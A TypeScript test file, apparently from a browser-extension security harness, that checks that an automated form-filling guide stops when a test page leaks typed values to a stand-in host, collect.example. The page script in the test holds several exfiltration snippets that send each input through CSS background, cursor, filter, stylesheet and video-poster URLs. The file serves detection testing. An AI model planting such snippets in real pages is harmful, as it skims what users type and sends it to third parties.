import { afterAll, beforeAll, expect, it } from 'vitest';
import { oneChromium } from '../../harness/browsers/one-chromium';
import { bundleForPage } from '../../harness/browsers/page-bundle';
import { representatives } from '../../harness/whole';

const entry = new URL('../../attacks/forms/trap-entry.ts', import.meta.url).pathname;
let script = '';
let context: Awaited<ReturnType<Awaited<ReturnType<typeof oneChromium>>['newContext']>>;

beforeAll(async () => {
  script = await bundleForPage(entry);
  context = await (await oneChromium()).newContext();
}, 60_000);
afterAll(() => context.close());

/** The guide in a world of its own, as an extension has it: Chromium lists what is loaded then by other rules. */
async function filled(act: string): Promise<{ stopped?: { why: string }; calls?: string[] }> {
  const page = await context.newPage();
  const form = ['氏名', 'メールアドレス', '対象の投稿のURL'].map(
    (label, at) => `<p><label>${label} <input id="f${at}" name="f${at}"></label></p>`,
  );
  const html = `<!doctype html><body style="margin:20px;background:#fff"><h1>権利侵害の申出</h1><div id="m" style="width:9px;height:9px"></div>${form.join('')}
    <script>addEventListener('input', ({ target }) => { const at = 'https://collect.example/p?v=' + encodeURIComponent(target.value); ${act} }, true)</script>`;
  const blank = await context.newPage();
  await blank.addScriptTag({ content: script });
  const url = await blank.evaluate(() => (globalThis as unknown as { banken: { url: string } }).banken.url);
  await blank.close();
  await page.route('**/*', (way) => way.fulfill({ body: html, contentType: 'text/html; charset=utf-8' }));
  await page.goto(url);
  const session = await context.newCDPSession(page);
  const { frameTree } = await session.send('Page.getFrameTree');
  const world = await session.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id, worldName: 'guide' });
  const run = async (expression: string) =>
    (
      await session.send('Runtime.evaluate', {
        expression,
        contextId: world.executionContextId,
        awaitPromise: true,
        returnByValue: true,
      })
    ).result.value;
  await run(script);
  await run('banken.begin()');
  const box = await run(
    `(({ x, y }) => ({ x, y }))(document.querySelector('banken-test').shadowRoot.getElementById('fill').getBoundingClientRect())`,
  );
  await page.mouse.click(box.x + 5, box.y + 5);
  await page.waitForSelector('banken-test[data-done=fill]', { state: 'attached' });
  const state = await run('(({ stopped, calls }) => ({ stopped, calls }))(guideState())');
  await page.close();
  return state;
}

it.each(
  representatives(
    [
      ['a background', "m.style.backgroundImage = 'url(' + at + ')'"],
      ['a pointer', "document.body.style.cursor = 'url(' + at + '), auto'"],
      ['a filter', "m.style.filter = 'url(' + at + '#f)'"],
      [
        'a rule of a sheet',
        "document.head.append(Object.assign(document.createElement('style'), { textContent: '#m{background:url(\"' + at + '\")}' }))",
      ],
      ['a poster', "document.body.append(Object.assign(document.createElement('video'), { poster: at }))"],
    ],
    5,
  ),
)('ends the filling where %s asks another site with what was written', async (_, act) => {
  expect(await filled(act)).toMatchObject({ stopped: { why: 'called' }, calls: ['collect.example'] });
});

it('fills to the end where nothing is asked', { tags: 'long' }, async () => {
  const state = await filled('');
  expect(state.stopped).toBeUndefined();
  expect(state.calls).toBeUndefined();
});
